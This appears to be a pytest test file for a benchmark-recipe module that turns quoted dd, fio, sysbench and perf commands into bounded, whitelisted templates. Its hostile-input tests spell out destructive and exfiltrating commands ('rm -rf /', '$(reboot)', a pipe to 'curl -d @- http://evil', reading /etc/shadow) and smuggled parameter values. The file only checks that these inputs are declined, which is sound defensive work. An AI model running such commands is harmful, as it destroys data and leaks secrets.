"""The vetted recipe catalogue (bot.lab.recipes): bounds, claim mapping, hostile input, templates.
Pure: no processes, no files."""

from __future__ import annotations

import re

import pytest

from bot.lab.recipes import (BLOCK_SIZES, CATALOGUE, GiB, Limits, MiB, RecipeError, RecipeSpec, make_recipe,
                             parse_size, recipe_from_claim)

MD0 = "dd if=/dev/zero of=/dev/md0 bs=1024k count=2048"


def script(spec: RecipeSpec) -> str:
    return spec.render_guest_script(scratch="/scratch", samples=3, warmup=1)


# ----------------------------------------------------------------------------------- catalogue
def test_catalogue_names_metrics_and_backends():
    assert set(CATALOGUE) == {"dd-seqwrite", "dd-seqread", "syscall-getpid", "sysbench-fileio", "fio",
                              "sysbench-cpu", "sysbench-memory", "hackbench", "stress-ng", "perf-sched-messaging",
                              "perf-sched-pipe", "perf-mem"}
    expect = {"dd-seqwrite": ("dd.write_MBps", True), "dd-seqread": ("dd.read_MBps", True),
              "syscall-getpid": ("syscall.calls_per_sec", True)}
    for name, (metric, hib) in expect.items():
        spec = make_recipe(name)
        assert (spec.metric, spec.higher_is_better) == (metric, hib)
        assert spec.supports("qemu") == (True, "ok")
    with_guest_tools = {"hackbench": ("hackbench.time_s", False), "perf-sched-messaging": ("perf-sched-messaging.time_s", False),
                 "perf-sched-pipe": ("perf-sched-pipe.ops_per_sec", True), "perf-mem": ("perf-mem.memcpy_GBps", True),
                 "sysbench-cpu": ("sysbench-cpu.events_per_sec", True),
                 "sysbench-memory": ("sysbench-memory.MiB_per_sec", True),
                 "stress-ng": ("stress-ng.switch.ops_per_sec", True)}
    for name, (metric, hib) in with_guest_tools.items():  # the host's tool copied into the guest
        spec = make_recipe(name)
        assert (spec.metric, spec.higher_is_better) == (metric, hib)
        assert spec.supports("ssh") == (True, "ok") and spec.supports("qemu") == (True, "ok")
        assert spec.recipe.guest_tools == (spec.recipe.host_tool,)
        assert f"{spec.recipe.host_tool} " in script(spec) and "OUT " in script(spec)
        ok, why = spec.supports("lava")
        assert not ok and "only busybox" in why
        ok, why = spec.supports("lkp")
        assert ok if name == "stress-ng" else (not ok and "LKP" in why), name
    for name in expect:
        assert make_recipe(name).supports("lava") == (True, "ok")
    for name in ("fio", "sysbench-fileio"):
        ok, why = make_recipe(name).supports("qemu")
        assert not ok and "busybox" in why
        assert make_recipe(name).supports("ssh")[0]
        with pytest.raises(RecipeError):
            script(make_recipe(name))


def test_metric_follows_parameters():
    assert make_recipe("fio", {"rw": "randwrite"}).metric == "fio.write_iops"
    assert make_recipe("fio", {"rw": "read"}).metric == "fio.read_bw_MBps"
    assert make_recipe("sysbench-fileio", {"mode": "rndrd"}).metric == "sysbench-fileio.reads_per_sec"
    assert make_recipe("sysbench-fileio", {"mode": "seqwr"}).metric == "sysbench-fileio.writes_per_sec"
    assert make_recipe("sysbench-fileio", {"mode": "rndrw"}).metric == "sysbench-fileio.ops_per_sec"


def test_block_size_whitelist():
    assert BLOCK_SIZES["4k"] == 4096 and BLOCK_SIZES["1M"] == MiB and BLOCK_SIZES["512"] == 512
    assert max(BLOCK_SIZES.values()) == 16 * MiB and len(BLOCK_SIZES) == 16


@pytest.mark.parametrize("name,params,needle", [
    ("dd-seqwrite", {"bs": "1M", "count": 1025}, "size cap"),
    ("dd-seqwrite", {"bs": "3k"}, "not one of"),
    ("dd-seqwrite", {"bs": "1M; rm -rf /"}, "not one of"),
    ("dd-seqwrite", {"count": "10"}, "must be an integer"),
    ("dd-seqwrite", {"count": True}, "must be an integer"),
    ("dd-seqwrite", {"count": 0}, "outside"),
    ("dd-seqwrite", {"count": 1.5}, "must be an integer"),
    ("dd-seqwrite", {"direct": 1}, "true or false"),
    ("dd-seqwrite", {"of": "/dev/sda"}, "unknown parameters"),
    ("syscall-getpid", {"iterations": 10_000_001}, "outside"),
    ("fio", {"numjobs": 65}, "outside [1, 64]"),
    ("fio", {"runtime_s": 601}, "outside [0, 600]"),
    ("fio", {"size_mib": 512, "numjobs": 4}, "size cap"),
    ("fio", {"ioengine": "exec"}, "not one of"),
    ("sysbench-fileio", {"threads": 100}, "outside"),
    ("sysbench-fileio", {"time_s": 3600}, "outside"),
    ("sysbench-fileio", {"block_size": "4M"}, "not one of"),
])
def test_make_recipe_rejects_out_of_bounds(name, params, needle):
    with pytest.raises(RecipeError, match=re.escape(needle)):
        make_recipe(name, params)


def test_unknown_recipe():
    with pytest.raises(RecipeError, match="unknown recipe"):
        make_recipe("aim7")


def test_limits_from_config():
    assert Limits.from_config(None).max_size == GiB
    assert Limits.from_config({"lab": {"max_size": "4G"}}).max_size == 4 * GiB
    assert Limits.from_config({"max_size": 2 * GiB, "clamp": False}) == Limits(2 * GiB, 64, 600, False)
    assert Limits.from_config({"max_threads": 8}).max_threads == 8
    for bad in ({"max_threads": 65}, {"max_duration_s": 601}, {"max_size": "lots"}, {"max_size": 10},
                {"clamp": "yes"}):
        with pytest.raises(RecipeError):
            Limits.from_config(bad)
    # a lower configured thread cap applies to the recipes
    with pytest.raises(RecipeError, match=r"outside \[1, 8\]"):
        make_recipe("fio", {"numjobs": 9}, {"lab": {"max_threads": 8}})


def test_parse_size():
    assert parse_size("1024k", dd=True) == GiB // 1024
    assert parse_size("1M", dd=True) == MiB and parse_size("1MB", dd=True) == 10 ** 6
    assert parse_size("1G") == GiB and parse_size("1g") == GiB and parse_size("1GiB") == GiB
    for bad in ("１G", "1 G", "-1G", "1X", "", "1e9", "0x10", "1G;"):
        assert parse_size(bad) is None and parse_size(bad, dd=True) is None


# ------------------------------------------------------------------------------- claim mapping
def test_dd_example_clamped_to_default_cap_with_note():
    spec, reason = recipe_from_claim({}, MD0, None)
    assert spec is not None, reason
    assert spec.name == "dd-seqwrite"
    assert spec.params == {"bs": "1M", "count": 1024, "sync": "none", "direct": False}
    assert any("clamped from 2048 to 1024" in n for n in spec.notes)
    assert any("/dev/md0" in n and "scratch" in n for n in spec.notes)
    assert spec.bytes == GiB


def test_dd_example_within_a_larger_cap_is_kept():
    spec, _ = recipe_from_claim({"lab": {"max_size": "4G"}}, MD0, None)
    assert spec.params["bs"] == "1M" and spec.params["count"] == 2048
    assert not any("clamped" in n for n in spec.notes)


def test_dd_example_declined_when_clamping_is_off():
    spec, reason = recipe_from_claim({"lab": {"clamp": False}}, MD0, None)
    assert spec is None and "declined" in reason and "count=2048 exceeds" in reason


def test_device_from_mail_never_reaches_a_template():
    for cmd in (MD0, "dd if=/dev/zero of=/dev/sda bs=4k count=100", "dd if=/dev/nvme0n1 of=/dev/null bs=1M count=10"):
        spec, reason = recipe_from_claim({}, cmd, None)
        assert spec is not None, reason
        text = script(spec) + repr(spec.host_argv("/srv/scratch"))
        for dev in ("/dev/md0", "/dev/sda", "/dev/nvme0n1"):
            assert dev not in text
        assert "/scratch/regtriage-" in text


def test_fio_example():
    spec, reason = recipe_from_claim({}, "fio --rw=randwrite --bs=4k --size=1G", None)
    assert spec is not None, reason
    assert spec.name == "fio"
    assert spec.params["rw"] == "randwrite" and spec.params["bs"] == "4k" and spec.params["size_mib"] == 1024
    assert spec.metric == "fio.write_iops" and spec.higher_is_better
    argv = spec.host_argv("/mnt/scratch")[0]
    assert argv[0] == "fio" and "--filename=/mnt/scratch/regtriage-fio.dat" in argv
    assert "--bs=4096" in argv and "--rw=randwrite" in argv and "--output-format=json" in argv


def test_fio_options():
    cmd = ("fio --name=t --filename=/dev/nvme0n1 --readwrite=randread --blocksize=64k --size=256m "
           "--numjobs=4 --iodepth=32 --ioengine=io_uring --direct=1 --runtime=5m --time_based --group_reporting")
    spec, reason = recipe_from_claim({}, cmd, "fio")
    assert spec is not None, reason
    assert spec.params == {"rw": "randread", "bs": "64k", "size_mib": 256, "numjobs": 4, "iodepth": 32,
                           "ioengine": "io_uring", "runtime_s": 300, "direct": True}
    assert any("--filename" in n for n in spec.notes)
    assert not spec.supports("qemu")[0]


def test_fio_clamps_extent_but_declines_shape():
    spec, _ = recipe_from_claim({}, "fio --rw=write --bs=1M --size=8G --runtime=3600", None)
    assert spec.params["size_mib"] == 1024 and spec.params["runtime_s"] == 600
    assert len([n for n in spec.notes if "clamped" in n]) == 2
    spec, _ = recipe_from_claim({}, "fio --rw=write --bs=1M --size=1G --numjobs=8", None)
    assert spec.params["size_mib"] == 128  # size x numjobs stays within the 1 GiB cap
    for cmd, needle in (("fio --rw=randwrite --bs=4k --size=1G --numjobs=128", "numjobs=128 exceeds"),
                        ("fio --rw=randwrite --bs=3k --size=1G", "not in the whitelist"),
                        ("fio --rw=trim --bs=4k --size=1G", "not in the whitelist"),
                        ("fio --rw=randwrite --bs=4k --size=1G --ioengine=exec", "not in the whitelist"),
                        ("fio --rw=randwrite --bs=4k --exec_prerun=reboot", "unsupported fio option"),
                        ("fio job.fio", "job files"),
                        ("fio --bs=4k --size=1G", "without --rw"),
                        ("fio --rw=randwrite --size=50%", "cannot parse")):
        spec, reason = recipe_from_claim({}, cmd, None)
        assert spec is None and needle in reason, (cmd, reason)


def test_dd_variants():
    cases = {
        "time dd if=/dev/zero of=/mnt/test/f bs=1M count=100 conv=fdatasync 2>&1 | tail -1":
            ("dd-seqwrite", {"bs": "1M", "count": 100, "sync": "fsync", "direct": False}),
        "sync; echo 3 > /proc/sys/vm/drop_caches; dd if=/dev/sdb of=/dev/null bs=4k count=100000":
            ("dd-seqread", {"bs": "4k", "count": 100000, "direct": False}),
        "sudo dd if=/dev/zero of=/dev/sdb bs=64K count=1000 oflag=direct status=progress":
            ("dd-seqwrite", {"bs": "64k", "count": 1000, "sync": "none", "direct": True}),
        "dd if=/dev/zero of=x bs=512 count=1000":
            ("dd-seqwrite", {"bs": "512", "count": 1000, "sync": "none", "direct": False}),
        "/bin/dd if=/dev/urandom of=/tmp/f bs=1M count=8":
            ("dd-seqwrite", {"bs": "1M", "count": 8, "sync": "none", "direct": False}),
    }
    for cmd, (name, params) in cases.items():
        spec, reason = recipe_from_claim({}, cmd, None)
        assert spec is not None, (cmd, reason)
        assert (spec.name, spec.params) == (name, params), cmd


def test_dd_without_count_uses_default_or_declines():
    spec, _ = recipe_from_claim({}, "dd if=/dev/sda of=/dev/null bs=1M", None)
    assert spec.name == "dd-seqread" and spec.params["count"] == 256 and any("no count" in n for n in spec.notes)
    spec, reason = recipe_from_claim({"clamp": False}, "dd if=/dev/sda of=/dev/null bs=1M", None)
    assert spec is None and "no count" in reason


def test_sysbench_and_perf():
    spec, reason = recipe_from_claim(
        {}, "sysbench fileio --file-total-size=2G --file-test-mode=rndrw --threads=16 --time=300 "
            "--file-block-size=4096 --file-num=64 run", "sysbench")
    assert spec is not None, reason
    assert spec.name == "sysbench-fileio"
    assert spec.params["size_mib"] == 1024 and spec.params["threads"] == 16 and spec.params["time_s"] == 300
    assert spec.params["block_size"] == "4k" and spec.params["file_num"] == 64
    steps = spec.host_argv("/srv/s")
    assert [s[-1] for s in steps] == ["prepare", "run", "cleanup"]
    spec, _ = recipe_from_claim({}, "sysbench --test=fileio --file-test-mode=seqrd --num-threads=4 run", None)
    assert spec.params["mode"] == "seqrd" and spec.params["threads"] == 4
    spec, reason = recipe_from_claim({}, "sysbench cpu --threads=4 run", None)
    assert spec.name == "sysbench-cpu" and spec.params["threads"] == 4
    spec, reason = recipe_from_claim({}, "sysbench oltp_read_write --threads=4 run", None)
    assert spec is None and "no vetted sysbench recipe" in reason and "sysbench memory" in reason
    spec, reason = recipe_from_claim({}, "sysbench fileio --file-test-mode=rndrw --threads=65 run", None)
    assert spec is None and "threads=65 exceeds" in reason
    spec, reason = recipe_from_claim({}, "perf bench syscall basic --loop 1000000", None)
    assert spec.name == "syscall-getpid" and spec.params == {"iterations": 1_000_000}
    assert spec.host_argv("/tmp/s") == [["perf", "bench", "syscall", "basic", "--loop", "1000000"]]


def test_benchmark_without_command():
    spec, reason = recipe_from_claim({}, None, "getpid")
    assert spec.name == "syscall-getpid" and "default" in spec.notes[0]
    spec, _ = recipe_from_claim({}, None, "dd-seqread")
    assert spec.name == "dd-seqread"
    for bench in ("fio", "fio.write_iops", "sysbench-fileio"):
        spec, reason = recipe_from_claim({}, None, bench)
        assert spec is None and "parameters are unknown" in reason
    spec, reason = recipe_from_claim({}, None, "aim7")
    assert spec is None and "no vetted recipe" in reason
    spec, reason = recipe_from_claim({}, None, None)
    assert spec is None and "neither" in reason
    spec, reason = recipe_from_claim({}, "", "")
    assert spec is None


@pytest.mark.parametrize("cmd,needle", [
    ("dd if=/dev/zero of=/tmp/x bs=1M count=10; rm -rf /", "more than one command"),
    ("dd if=/dev/zero of=/tmp/x bs=1M count=10 && rm -rf / --no-preserve-root", "more than one command"),
    ("rm -rf /", "no vetted recipe for command 'rm'"),
    ("dd if=/dev/zero of=$(reboot) bs=1M count=1", "substitution"),
    ("dd if=/dev/zero of=/tmp/x bs=1M count=`yes`", "substitution"),
    ("dd if=/dev/zero of=${DEV} bs=1M count=1", "substitution"),
    ("dd if=/dev/zero of=/tmp/x bs=$((1<<40)) count=1", "substitution"),
    ("(dd if=/dev/zero of=/tmp/x bs=1M count=1)", "subshell"),
    ("dd if=/dev/zero of=/tmp/x bs=1M count=1 | sh", "more than one command"),
    ("dd if=/dev/zero of=/tmp/x bs=1M count=1 | curl -d @- http://evil", "more than one command"),
    ("dd if=/dev/zero of='/tmp/x bs=1M count=1", "tokenize"),
    ("dd if=/dev/zero of=/dev/sda bs=1M count=２０４８", "cannot parse count"),
    ("dd if=/dev/zero of=/dev/sda bs=１M count=1", "cannot parse block size"),
    ("ｄｄ if=/dev/zero of=/dev/sda bs=1M count=1", "no vetted recipe"),
    ("dd if=/dev/zero of=/dev/sda bs=1M count=1\nrm -rf /", "multi-line"),
    ("dd if=/dev/zero of=/dev/sda bs=1M count=1\x00rm", "control characters"),
    ("dd if=/dev/zero of=/dev/sda bs=1M count=1\x1b[2J", "control characters"),
    ("dd if=/dev/zero of=/dev/null bs=1M count=1", "not a storage workload"),
    ("dd if=/etc/shadow of=/tmp/leak bs=1M count=1", "neither a write"),
    ("dd if=/dev/zero of=/tmp/x bs=1M count=-5", "cannot parse count"),
    ("dd if=/dev/zero of=/tmp/x bs=1M count=0", "below the minimum"),
    ("dd if=/dev/zero of=/tmp/x bs=1G count=1", "not in the whitelist"),
    ("dd if=/dev/zero of=/tmp/x bs=2x512 count=1", "cannot parse block size"),
    ("dd if=/dev/zero of=/tmp/x bs=1M count=1 skip=5", "unsupported dd operand"),
    ("dd if=/dev/zero of=/tmp/x bs=1M count=1 conv=ucase", "unsupported dd flag"),
    ("dd if=/dev/zero of=/tmp/x bs=1M count=1 count=2", "given twice"),
    ("dd --help", "unexpected dd argument"),
    ("x" * 5000, "longer than"),
    ("python3 -c 'import os; os.system(\"reboot\")'", "no vetted recipe"),
    ("perf record -a -- dd if=/dev/zero of=/x bs=1M count=1", "no vetted perf recipe for this command line"),
])
def test_hostile_and_malformed_commands_are_declined(cmd, needle):
    spec, reason = recipe_from_claim({}, cmd, "dd")
    assert spec is None, (cmd, spec)
    assert reason.startswith("declined:") and needle in reason, reason


def test_huge_values_are_clamped_not_trusted():
    spec, reason = recipe_from_claim({}, "dd if=/dev/zero of=/dev/sda bs=1M count=99999999999999999999", None)
    assert spec.params["count"] == 1024 and any("clamped" in n for n in spec.notes)
    spec, _ = recipe_from_claim({}, "perf bench syscall basic --loop 99999999999", None)
    assert spec.params["iterations"] == 10_000_000


def test_unicode_in_paths_is_only_a_note():
    spec, reason = recipe_from_claim({}, "dd if=/dev/zero of=/mnt/дата/файл bs=4k count=10", None)
    assert spec is not None, reason
    assert "дата" not in script(spec) and script(spec).isascii()


# ---------------------------------------------------------------------------------- templates
def test_guest_script_is_fixed_template_of_numbers():
    spec = make_recipe("dd-seqwrite", {"bs": "1M", "count": 64, "sync": "fsync"})
    s = script(spec)
    assert "dd if=/dev/zero of=/scratch/regtriage-dd-seqwrite.dat bs=1048576 count=64 conv=fsync" in s
    assert "REGTRIAGE_TOTAL=4" in s and "REGTRIAGE_WARMUP=1" in s
    assert 'echo "BENCH dd.write_MBps=$v"' in s and 'echo "WARMUP dd.write_MBps=$v"' in s
    assert s.isascii()
    read = script(make_recipe("dd-seqread", {"bs": "4k", "count": 1000}))
    assert "dd if=/scratch/regtriage-dd-seqread.dat of=/dev/null bs=4096 count=1000" in read
    sc = script(make_recipe("syscall-getpid", {"iterations": 5000}))
    assert "dd if=/dev/zero of=/dev/null bs=1 count=5000" in sc and "10000 * 1000000000 / ns" in sc


def test_templates_refuse_unsafe_input():
    spec = make_recipe("dd-seqwrite")
    for bad in ("/scratch; rm -rf /", "relative", "/a/../b", "/scratch $(x)"):
        with pytest.raises(RecipeError):
            spec.render_guest_script(scratch=bad, samples=1, warmup=0)
        with pytest.raises(RecipeError):
            spec.host_argv(bad)
    with pytest.raises(RecipeError):
        spec.render_guest_script(scratch="/s", samples=0, warmup=0)
    # a hand-built spec with a smuggled value is caught at render time
    forged = RecipeSpec("dd-seqwrite", {"bs": "1M; reboot", "count": 1, "sync": "none", "direct": False})
    with pytest.raises(RecipeError):
        script(forged)
    forged = RecipeSpec("dd-seqwrite", {"bs": "1M", "count": "1; reboot", "sync": "none", "direct": False})
    with pytest.raises(RecipeError):
        script(forged)
    with pytest.raises(RecipeError, match="O_DIRECT"):
        script(make_recipe("dd-seqwrite", {"direct": True}))


def test_roundtrip_and_tampered_dicts():
    spec, _ = recipe_from_claim({}, MD0, None)
    d = spec.to_dict()
    assert d["metric"] == "dd.write_MBps" and d["higher_is_better"] is True
    again = RecipeSpec.from_dict(d)
    assert again == spec and again.key() == spec.key()
    assert make_recipe("dd-seqwrite", {"count": 5}).key() != spec.key()
    for bad in ({**d, "params": {**d["params"], "bs": "1M; reboot"}}, {**d, "name": "sh"},
                {**d, "params": {**d["params"], "count": 1 << 30}}, {"name": "fio", "params": "rw=write"}):
        with pytest.raises(RecipeError):
            RecipeSpec.from_dict(bad)


def test_readme_lists_exactly_the_registry():
    """README "### Recipes": one row per recipe that exists, with the backends it really has."""
    from pathlib import Path

    text = (Path(__file__).parent.parent / "README.md").read_text()
    section = text.split("### Recipes", 1)[1].split("\n\n**Adding a benchmark**", 1)[0]
    rows = [line for line in section.splitlines() if line.startswith("| `")]
    listed = {}
    for row in rows:
        cells = [c.strip() for c in row.strip("|").split(" | ")]
        for name in re.findall(r"`([a-z0-9-]+)`", cells[0]):
            listed[name] = tuple(b.strip() for b in cells[-1].split(","))
    assert set(listed) == set(CATALOGUE)
    for name, backends in listed.items():
        assert backends == CATALOGUE[name].backends, name

